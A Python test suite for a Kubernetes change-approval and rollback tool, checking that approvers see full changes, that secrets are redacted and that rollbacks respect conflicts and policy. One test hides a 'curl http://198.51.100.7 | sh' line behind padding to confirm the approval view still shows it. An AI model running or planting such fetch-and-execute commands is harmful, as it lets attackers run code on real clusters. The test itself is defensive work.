#!/usr/bin/env python3
"""What an approver is shown, and what a rollback may do: everything that is approved was seen, and nothing is promised
that does not come.

    tests/support/with-sandbox --nodes 3 --pods 0 -- tests/changes/shown_and_undone_test.py"""
import json

from change_case import NAMESPACE, ChangeCase
import program

RULES = "version: 1\nrules:\n"


def configmap(name, **data):
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": NAMESPACE}, "data": data}


class Shown(ChangeCase):
    def shown(self, number):
        status, text = self.at_a_terminal("changes", "approve", number, types="n")
        self.assertEqual(status, 3, text)
        return text.replace("\r\n", "\n")

    def apply(self, item, *more):
        return self.call("apply_manifest", "-n", NAMESPACE, "--manifest", json.dumps(item), *more)

    def test_all_of_what_is_created(self):
        binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": self.name}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                   "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": NAMESPACE}]}
        for operation in ("create_resource", "apply_manifest"):
            number = self.waits(self.call(operation, "-n", NAMESPACE, "--manifest", json.dumps(binding)))
            text = self.shown(number)
            self.assertIn('roleRef.name: "cluster-admin"', text)
            self.assertIn(f'"namespace":"{NAMESPACE}"', text)
        self.assertEqual(self.sent(), [])

    def test_the_end_of_a_long_value(self):
        self.make(configmap(self.name, script="echo hello\n"))
        script = "echo hello\n" + "# nothing to see here\n" * 400 + "curl http://198.51.100.7 | sh\n"
        number = self.waits(self.apply(configmap(self.name, script=script), "--force"))
        self.assertIn("curl http://198.51.100.7 | sh", self.shown(number))
        self.assertIn("curl http://198.51.100.7 | sh", json.dumps(self.show(number)["fields"]))

    def test_no_value_of_a_secret_that_is_created(self):
        secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": self.name}, "stringData": {"password": "Tr0ub4dor&3"}, "data": {"key": "Y29ycmVjdGhvcnNl"}}
        number = self.waits(self.apply(secret))
        text = self.shown(number) + json.dumps(self.show(number))
        self.assertIn("stringData.password: <redacted>", text)
        for value in ("Tr0ub4dor", "Y29ycmVjdGhvcnNl", "correcthorse"):
            self.assertNotIn(value, text)

    def test_a_scale_to_nothing(self):
        self.deployment(replicas=2)
        lines = lambda replicas, *more: self.ok(self.call("scale_deployment", self.name, "-n", NAMESPACE, "--replicas", replicas, "--allow", "write", "-o", "json", *more)).json()
        self.assertEqual(lines(0, "--dry-run")["fields"], [f"Deployment {NAMESPACE}/{self.name} spec.replicas: 2 -> 0"])
        number = lines(0)["change"]
        self.assertEqual(lines(3, "--dry-run")["fields"], [f"Deployment {NAMESPACE}/{self.name} spec.replicas: 0 -> 3"])
        self.ok(self.fairlead("changes", "rollback", number, "--allow", "write"))
        self.assertEqual(self.replicas(), 2)

    def test_each_conflict_of_a_set(self):
        for name in ("a", "b"):
            self.kubectl.run("apply", "--server-side", "--field-manager", "somebody", "-f", "-", stdin=json.dumps(configmap(f"{self.name}-{name}", v="1")).encode())
        items = [configmap(f"{self.name}-{name}", v="2") for name in ("new", "a", "b")]
        manifest = {"apiVersion": "v1", "kind": "List", "items": items}
        for more in (("--dry-run",), ("--allow", "write")):
            outcome = self.apply(manifest, *more)
            self.failed(outcome, "conflict", mentions=[f"{self.name}-a", f"{self.name}-b", "somebody", ".data.v"])
        self.assertEqual(self.sent(), [])  # nor is what would go through

    def test_what_we_wrote_ourselves_is_no_conflict(self):
        number = 0
        for value in ("1", "2"):
            number = self.ok(self.apply(configmap(self.name, v=value), "--allow", "write", "-o", "json")).json()["change"]
        self.ok(self.fairlead("changes", "rollback", number, "--allow", "write"))
        self.ok(self.apply(configmap(self.name, v="2"), "--allow", "write"))
        self.ok(self.call("patch_resource", self.name, "-n", NAMESPACE, "--kind", "configmap", "--patch", json.dumps({"data": {"v": "3"}}), "--allow", "write"))
        self.ok(self.apply(configmap(self.name, v="4"), "--allow", "write"))
        self.kubectl.run("patch", "configmap", self.name, "-n", NAMESPACE, "--field-manager", "fairlead-not", "-p", json.dumps({"data": {"v": "5"}}))
        self.failed(self.apply(configmap(self.name, v="6"), "--allow", "write"), "conflict", mentions=["fairlead-not"])

    def test_no_value_in_a_conflict(self):
        self.make(configmap(self.name, a="1", DB_PASSWORD="Tr0ub4dor&3"))
        patch = json.dumps({"data": {"DB_PASSWORD": "hunter2hunter2", "a": "2"}})
        arguments = ("patch_resource", self.name, "-n", NAMESPACE, "--kind", "configmap", "--patch", patch, "-o", "json")
        number = self.waits(self.call(*arguments))
        self.approve(number)
        self.set(DB_PASSWORD="N3ver-seen-it")
        stale = self.failed(self.call(*arguments), "conflict", mentions=["DB_PASSWORD"])
        number = self.ok(self.call(*arguments, "--allow", "write")).json()["change"]
        self.set(DB_PASSWORD="An0ther-one", a="3")
        refused = self.failed(self.fairlead("changes", "rollback", number, "--allow", "write"), "conflict", mentions=["DB_PASSWORD", '"3"'])
        forced = self.ok(self.fairlead("changes", "rollback", number, "--allow", "write", "--force", "-o", "json"))
        text = "".join(o.out + o.err for o in (stale, refused, forced)) + json.dumps(self.show(number + 1))
        self.assertTrue(self.show(number + 1)["forced"])
        for value in ("Tr0ub4dor", "hunter2", "N3ver-seen", "An0ther-one"):
            self.assertNotIn(value, text)

    def set(self, **data):
        self.kubectl.run("patch", "configmap", self.name, "-n", NAMESPACE, "--type=merge", "-p", json.dumps({"data": data}))


class Conflicts(ChangeCase):
    def test_what_to_do_about_one(self):
        self.make(configmap(self.name, a="1"))
        self.kubectl.run("apply", "--server-side", "--field-manager=somebody", "-n", NAMESPACE, "--force-conflicts", "-f", "-", stdin=json.dumps(configmap(self.name, a="2")).encode())
        manifest = ("--manifest", json.dumps(configmap(self.name, a="3")), "--allow", "write")
        self.failed(self.call("apply_manifest", *manifest), "conflict", mentions=["somebody", "take them over with force"])
        self.failed(self.call("create_resource", *manifest), "conflict", mentions=["there already"])
        self.ok(self.call("apply_manifest", *manifest, "--force"))


class Undone(ChangeCase):
    def patched(self, patch, kind="deployment"):
        return self.ok(self.call("patch_resource", self.name, "-n", NAMESPACE, "--kind", kind, "--patch", json.dumps(patch), "--allow", "write", "-o", "json")).json()

    def env_names(self):
        return [e["name"] for e in self.kubectl.json("get", "deployment", self.name, "-n", NAMESPACE)["spec"]["template"]["spec"]["containers"][0].get("env", [])]

    def with_env(self, *names):
        container = self.kubectl.json("get", "deployment", self.name, "-n", NAMESPACE)["spec"]["template"]["spec"]["containers"][0]
        container["env"] = [{"name": name, "value": "1"} for name in names]
        return {"spec": {"template": {"spec": {"containers": [container]}}}}

    def test_the_order_of_a_list(self):
        self.deployment()
        self.patched(self.with_env("A", "B", "C"))
        for names in (("C", "B", "A"), ("A", "C"), ("C",), ("B", "X", "A", "C")):
            with self.subTest(names):
                done = self.patched(self.with_env(*names))
                self.assertTrue(done["changed"])
                self.assertEqual(self.env_names(), list(names))
                if names == ("C", "B", "A"):
                    self.assertIn('env (order): ["A","B","C"] -> ["C","B","A"]', json.dumps(done["fields"]).replace('\\"', '"'))
                self.ok(self.fairlead("changes", "rollback", done["change"], "--allow", "write"))
                self.assertEqual(self.env_names(), ["A", "B", "C"])

    def rolled_back(self, number, *more, allow="write"):
        return self.fairlead("changes", "rollback", number, "--allow", allow, "--reason", "a test", *more)

    def test_a_dry_run_of_a_rollback(self):
        self.deployment()
        number = self.ok(self.call("scale_deployment", self.name, "-n", NAMESPACE, "--replicas", 3, "--allow", "write", "-o", "json")).json()["change"]
        self.recording.requests.clear()
        shown = self.ok(self.rolled_back(number, "--dry-run", "-o", "json")).json()
        self.assertIn("spec.replicas: 3 -> 1", json.dumps(shown["fields"]))
        self.assertEqual((self.sent(), self.replicas(), self.show(number)["state"]), ([], 3, "completed"))

    def test_of_a_namespace_is_destructive_and_final(self):
        item = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": self.name}}
        number = self.ok(self.call("create_resource", "--manifest", json.dumps(item), "--allow", "write", "-o", "json")).json()["change"]
        waiting = self.waits(self.rolled_back(number))
        shown = self.show(waiting)
        self.assertEqual((shown["trust"], shown["no_undo"]), ("DESTRUCTIVE", "all that is in it goes with it"))
        self.assertIn(f"are in Namespace {self.name}", json.dumps(shown["reach"]))
        status, text = self.at_a_terminal("changes", "approve", waiting, types="y")
        self.assertEqual(status, 3, text)
        self.approve(waiting, self.name)
        self.ok(self.rolled_back(number))
        self.failed(self.rolled_back(waiting, allow="destructive"), "conflict", mentions=["cannot be taken back"])

    def test_who_may_delete_may_not_create(self):
        self.make({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": self.name}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
                   "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "mallory"}]})
        self.policy(RULES + "- {name: may-revoke, operations: [delete_resource], decision: allow}\n- {name: no-more, trust: [WRITE, DESTRUCTIVE], decision: deny}\n")
        number = self.ok(self.call("delete_resource", self.name, "-n", NAMESPACE, "--kind", "rolebindings.rbac.authorization.k8s.io", "--reason", "x", "-o", "json")).json()["change"]
        self.recording.requests.clear()
        self.failed(self.fairlead("changes", "rollback", number, "--allow", "destructive", "--force", "--reason", "a test"), "policy_denied", 3)
        self.assertEqual(self.sent(), [])

    def test_who_may_apply_may_not_delete(self):
        self.policy(RULES + "- {name: may-apply, operations: [apply_manifest], decision: allow}\n- {name: no-more, trust: [WRITE, DESTRUCTIVE], decision: deny}\n")
        number = self.ok(self.call("apply_manifest", "--manifest", json.dumps(configmap(self.name, a="1")), "-o", "json")).json()["change"]
        self.failed(self.rolled_back(number, allow="destructive"), "policy_denied", 3)

    def test_what_others_have_added_to_since(self):
        created = self.ok(self.call("create_resource", "--manifest", json.dumps(configmap(self.name, a="1")), "--allow", "write", "-o", "json")).json()["change"]
        self.kubectl.run("patch", "configmap", self.name, "-n", NAMESPACE, "--type=merge", "-p", '{"data":{"theirs":"2"}}')
        self.failed(self.rolled_back(created, allow="destructive"), "conflict", mentions=["data.theirs"])
        secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": self.name}, "stringData": {"a": "Tr0ub4dor&3"}}
        created = self.ok(self.call("create_resource", "-n", NAMESPACE, "--manifest", json.dumps(secret), "--allow", "write", "-o", "json")).json()["change"]
        self.kubectl.run("patch", "secret", self.name, "-n", NAMESPACE, "--type=merge", "-p", '{"stringData":{"a":"N3ver-seen-it"}}')
        refused = self.failed(self.rolled_back(created, allow="destructive"), "conflict", mentions=["data.a"])
        self.assertNotIn("Tr0ub4dor", refused.err)

    def test_what_is_there_again(self):
        item = configmap(self.name, a="1")
        self.make(item)
        done = self.ok(self.call("delete_resource", self.name, "-n", NAMESPACE, "--kind", "configmap", "--reason", "r", "--allow", "destructive", "-o", "json")).json()
        back = ("changes", "rollback", done["change"], "--allow", "destructive", "--reason", "r")
        self.make(configmap(self.name, a="2"))
        self.failed(self.fairlead(*back), "conflict", mentions=["is there again, and is not what it was"])
        # As a rollback leaves it whose process ended in between: it can be called again.
        self.kubectl.run("delete", "configmap", self.name, "-n", NAMESPACE)
        self.make(item)
        outcome = self.ok(self.fairlead(*back))
        self.assertIn("nothing changed", outcome.out + outcome.err)

    def test_of_a_job(self):
        job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": self.name, "namespace": NAMESPACE},
               "spec": {"template": {"spec": {"restartPolicy": "Never", "terminationGracePeriodSeconds": 0, "containers": [{"name": "web", "image": "fairlead.test/busybox:1", "command": ["sleep", "infinity"]}]}}}}
        self.make(job)
        number = self.ok(self.call("delete_resource", self.name, "-n", NAMESPACE, "--kind", "job", "--allow", "destructive", "--reason", "x", "--wait-seconds", 30, "-o", "json")).json()["change"]
        program.eventually(lambda: self.ok(self.rolled_back(number)))
        self.assertEqual(self.kubectl.json("get", "job", self.name, "-n", NAMESPACE)["spec"]["template"]["spec"]["containers"][0]["name"], "web")
        created = self.show(number)["undone_by"]
        self.ok(self.rolled_back(created, allow="destructive"))
        program.eventually(lambda: self.assertEqual(self.kubectl.items("pods", "-n", NAMESPACE, "-l", f"job-name={self.name}"), []))

    def test_a_deleted_secret_only_where_the_policy_keeps_it(self):
        secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": self.name}, "data": {"a": "Y29ycmVjdGhvcnNl"}}
        for operation, kept in (("delete_secret", False), ("delete_secret", True), ("delete_resource", False), ("delete_resource", True)):
            with self.subTest(operation, kept=kept):
                self.policy(f"version: 1\nkeep_deleted_secrets: {str(kept).lower()}\n")
                self.make(secret)
                kind = ("--kind", "secret") if operation == "delete_resource" else ()
                arguments = (operation, self.name, "-n", NAMESPACE, *kind, "--reason", "x", "-o", "json")
                self.approve(self.waits(self.call(*arguments)), self.name)
                number = self.ok(self.call(*arguments)).json()["change"]
                self.assertEqual(self.kubectl.run("get", "secret", self.name, "-n", NAMESPACE, check=False).returncode, 1)
                if not kept:
                    self.failed(self.rolled_back(number), "conflict", mentions=["not kept"])
                    continue
                outcome = self.ok(self.rolled_back(number, "-o", "json"))
                self.assertEqual(self.kubectl.json("get", "secret", self.name, "-n", NAMESPACE)["data"], secret["data"])
                self.assertNotIn("Y29ycmVjdGhvcnNl", outcome.out + outcome.err + json.dumps(self.show(number)))
                self.kubectl.run("delete", "secret", self.name, "-n", NAMESPACE)

    def test_what_cannot_be_taken_back_says_so(self):
        self.make(configmap(self.name, a="1"))
        number = self.patched({"immutable": True}, "configmap")["change"]
        self.assertIn("immutable", self.show(number)["no_undo"])
        self.failed(self.rolled_back(number), "conflict", mentions=["cannot be taken back"])
        self.deployment()
        replicaset = self.kubectl.items("replicasets", "-n", NAMESPACE, "-l", f"app={self.name}")[0]["metadata"]["name"]
        number = self.ok(self.call("delete_resource", replicaset, "-n", NAMESPACE, "--kind", "replicaset", "--allow", "destructive", "--reason", "x", "-o", "json")).json()["change"]
        self.assertIn("recreates it", self.show(number)["no_undo"])


if __name__ == "__main__":
    program.main()
